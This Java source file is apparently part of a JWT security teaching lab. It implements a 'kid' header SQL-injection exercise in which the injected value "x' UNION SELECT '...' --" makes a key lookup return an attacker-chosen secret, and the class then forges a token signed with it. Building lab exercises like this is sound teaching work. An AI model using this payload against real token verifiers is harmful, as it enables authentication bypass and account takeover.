package loginlens.attack.forging;

import com.auth0.jwt.algorithms.Algorithm;
import java.util.List;
import loginlens.attack.Attack;
import loginlens.attack.Card;
import loginlens.attack.Difficulty;
import loginlens.attack.Forging;
import loginlens.attack.Parameter;
import loginlens.attack.Setup;
import loginlens.attack.StrictServer;
import loginlens.attack.Values;
import loginlens.attack.careless.KeyBySql;
import loginlens.attack.lab.Lab;
import loginlens.attack.lab.LabDatabase;
import loginlens.attack.lab.LabFailedException;
import loginlens.text.Message;
import loginlens.token.checks.CheckKind;

/** The kid is a piece of SQL that answers with the attacker's own secret. No product was found in the public record. */
final class KidInSql implements Attack {
    private static final String SECRET = "chosen by the attacker";
    private static final Parameter KID = new Parameter("kid", "x' UNION SELECT '" + SECRET + "' --", List.of());
    private static final Card CARD =
            Card.of("sql", Difficulty.HARD, "RFC 8725 §3.10", CheckKind.SIGNATURE, KeyBySql.class);

    @Override
    public Card card() {
        return CARD;
    }

    @Override
    public List<Parameter> parameters() {
        return List.of(KID, Parameter.ROLE);
    }

    @Override
    public Setup prepare(Lab lab, Values values) throws LabFailedException {
        LabDatabase database = lab.database();
        database.add("key-1", lab.secret());
        String honest = lab.draft(lab.student()).header("kid", "key-1").signed(lab.hs256()).compact();
        Forging forging = Steps.withTokenOf(lab, honest).knowing("attack.known.query");
        String kid = values.of(KID);
        forging.fact(Message.of("attack.fact.query"), "SELECT secret FROM keys WHERE kid = '" + kid + "'");
        Steps.role(forging, values.of(Parameter.ROLE));
        Steps.header(forging, "kid", kid);
        forging.move(Message.of("attack.move.signedOwn", SECRET), draft -> draft.signed(Algorithm.HMAC256(SECRET)));
        return new Setup(new KeyBySql(database.server()), Steps.strict(lab.hs256()),
                new StrictServer(lab.key(), lab), honest, forging.done());
    }
}
